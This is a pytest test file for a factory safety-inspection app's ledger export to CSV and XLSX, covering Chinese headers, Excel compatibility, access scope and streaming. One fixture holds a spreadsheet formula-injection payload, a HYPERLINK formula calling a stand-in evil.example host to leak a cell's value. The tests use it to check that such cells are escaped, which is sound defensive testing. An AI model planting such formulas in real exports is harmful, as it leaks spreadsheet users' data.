"""The actions ledger (隐患整改台账): CSV that Excel reads (BOM, Chinese, no formulas) and XLSX
that opens, for a factory and for a region, within each user's scope."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from inspect_app.accounts.models import User
from inspect_app.actions.models import Action, ActionOrigin, ActionStatus, ControlType
from inspect_app.extensions import db, local_today
from inspect_app.inspections.models import Inspection, InspectionStatus

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def ledger(app, world, make_inspection):
    """Factory A: a submitted SCORE visit with two findings and their actions (one overdue,
    one with a formula for a title), and a worker suggestion; factory B: one action."""
    from inspect_app.inspections import services as inspection_services

    inspection_id = make_inspection(checklist="machine-guarding", kind="score_visit")
    other_id = make_inspection(
        checklist="machine-guarding", kind="score_visit", factory=world.b, by="inspector_b"
    )
    with app.app_context():
        inspector = db.session.get(User, world.users["inspector"].id)
        inspection = db.session.get(Inspection, inspection_id)
        saw, _ = inspection_services.add_finding(
            inspection,
            by=inspector,
            title="横截锯无防护罩",
            item_id="guard-01",
            location="裁切车间",
            grade="major",
            likelihood=4,
            severity=5,
        )
        evil, _ = inspection_services.add_finding(inspection, by=inspector, title=EVIL)
        inspection.status = InspectionStatus.SUBMITTED
        inspection.inspected_on = date(2026, 3, 2)
        today = local_today()
        db.session.add_all(
            [
                Action(
                    factory_id=world.a.id,
                    finding_id=saw.id,
                    title="加装防护罩",
                    control_type=ControlType.ENGINEERING,
                    responsible="+86 设备科",
                    due_on=today - timedelta(days=10),
                    status=ActionStatus.IN_PROGRESS,
                    estimated_cost=Decimal("1200.00"),
                ),
                Action(
                    factory_id=world.a.id,
                    finding_id=evil.id,
                    title="@SUM(1+1)",
                    responsible="-1",
                    status=ActionStatus.OPEN,
                ),
                Action(
                    factory_id=world.a.id,
                    origin=ActionOrigin.SUGGESTION,
                    title="工人建议：废料箱",
                    status=ActionStatus.PROPOSED,
                ),
            ]
        )
        other = db.session.get(Inspection, other_id)
        inspector_b = db.session.get(User, world.users["inspector_b"].id)
        finding_b, _ = inspection_services.add_finding(other, by=inspector_b, title="东莞的隐患")
        db.session.add(Action(factory_id=world.b.id, finding_id=finding_b.id, title="东莞的措施"))
        db.session.commit()


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_factory_ledger_csv_is_excel_ready_and_in_chinese(client, login_as, world, ledger):
    login_as("committee")
    response = client.get(f"/factories/{world.a.id}/ledger.csv?lang=zh_CN")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    rows = _csv_rows(response)
    header = rows[0]
    assert header[:6] == ["序号", "企业", "发现日期", "检查项", "危险区域", "隐患"]
    assert len(rows) == 1 + 3  # A's three actions, never B's
    saw = rows[1]
    column = dict(zip(header, saw, strict=True))
    assert column["隐患"] == "横截锯无防护罩"
    assert column["发现日期"] == "2026-03-02"
    assert column["检查项"].startswith("guard-01 ")
    assert column["危险区域"] == "机器安全"
    assert column["隐患级别"] == "重大隐患"
    assert column["风险等级"] == "重大风险"  # 4 × 5 = 20
    assert column["逾期"] == "是"
    assert column["预计费用（元）"] == "1200.00"
    assert column["控制措施类型"] == "工程控制"
    assert "东莞的措施" not in response.data.decode("utf-8-sig")


def test_csv_cells_that_look_like_formulas_are_escaped(client, login_as, world, ledger):
    login_as("inspector")
    rows = _csv_rows(client.get(f"/factories/{world.a.id}/ledger.csv?lang=en"))
    header = rows[0]
    by_action = {dict(zip(header, r, strict=True))["Improvement action"]: r for r in rows[1:]}
    evil = dict(zip(header, by_action["'@SUM(1+1)"], strict=True))
    assert evil["Hazard"] == "'" + EVIL
    assert evil["Responsible"] == "'-1"
    saw = dict(zip(header, by_action["加装防护罩"], strict=True))
    assert saw["Responsible"] == "'+86 设备科"
    assert saw["Overdue"] == "Yes"
    suggestion = dict(zip(header, by_action["工人建议：废料箱"], strict=True))
    assert (suggestion["Origin"], suggestion["Hazard"]) == ("Worker suggestion", "")
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_factory_ledger_xlsx_opens_with_the_rows(client, login_as, world, ledger):
    login_as("committee")
    response = client.get(f"/factories/{world.a.id}/ledger.xlsx?lang=zh_CN")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    assert sheet.title == "隐患整改台账"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "序号" and sheet["A1"].font.b
    assert sheet.column_dimensions["F"].width == 32
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3
    assert rows[0][5] == "横截锯无防护罩"
    assert rows[0][2].date() == date(2026, 3, 2)  # a real date cell
    assert rows[0][18] == 1200.0  # a number, for sums
    evil_cell = next(c for c in sheet["F"] if c.value == EVIL)
    assert evil_cell.data_type == "s"  # text, never a formula
    assert evil_cell.quotePrefix


def test_committee_of_b_cannot_download_as_ledger(client, login_as, world, ledger):
    login_as("committee_b")
    assert client.get(f"/factories/{world.a.id}/ledger.csv").status_code == 404
    assert client.get(f"/factories/{world.a.id}/ledger.xlsx").status_code == 404
    assert client.get("/regions/ledger.csv").status_code == 403


def test_region_ledger_has_the_inspectors_factories_only(client, login_as, world, ledger, app):
    login_as("inspector")  # Chongqing
    rows = _csv_rows(client.get("/regions/ledger.csv?lang=en"))
    assert len(rows) == 1 + 3
    assert {r[1] for r in rows[1:]} == {"Yubei Rubber Works"}
    book = load_workbook(io.BytesIO(client.get("/regions/ledger.xlsx").data))
    assert book.active.max_row == 1 + 3
    with app.app_context():
        guangdong = db.session.scalar(sa.text("SELECT id FROM regions WHERE code = '440000'"))
    assert client.get(f"/regions/ledger.csv?region={guangdong}").status_code == 404


def test_admin_region_ledger_for_one_region(client, login_as, world, ledger, app):
    login_as("admin")
    with app.app_context():
        guangdong = db.session.scalar(sa.text("SELECT id FROM regions WHERE code = '440000'"))
    rows = _csv_rows(client.get(f"/regions/ledger.csv?region={guangdong}&lang=zh_CN"))
    assert [r[9] for r in rows[1:]] == ["东莞的措施"]
    everything = _csv_rows(client.get("/regions/ledger.csv"))
    assert len(everything) == 1 + 4


def test_an_empty_ledger_is_just_the_header(client, login_as, world):
    login_as("committee_b")
    rows = _csv_rows(client.get(f"/factories/{world.b.id}/ledger.csv?lang=en"))
    assert rows == [rows[0]] and rows[0][0] == "No."
    book = load_workbook(io.BytesIO(client.get(f"/factories/{world.b.id}/ledger.xlsx").data))
    assert book.active.max_row == 1


def test_a_big_ledger_streams_in_pieces(client, login_as, world, app):
    """Thousands of rows come out in several chunks (the response is not built in memory)."""
    with app.app_context():
        db.session.execute(
            sa.insert(Action.__table__),
            [
                {
                    "factory_id": world.a.id,
                    "origin": "suggestion",
                    "title": f"建议 {n}",
                    "description": "",
                    "done_description": "",
                    "responsible": "",
                    "status": "proposed",
                    "created_at": local_today(),
                    "updated_at": local_today(),
                    "version": 1,
                }
                for n in range(1600)
            ],
        )
        db.session.commit()
    login_as("inspector")
    response = client.get(f"/factories/{world.a.id}/ledger.csv", buffered=False)
    chunks = list(response.response)
    response.close()
    assert len(chunks) >= 4  # the header, then every 500 rows
    assert sum(chunk.count(b"\n") for chunk in chunks) == 1 + 1600
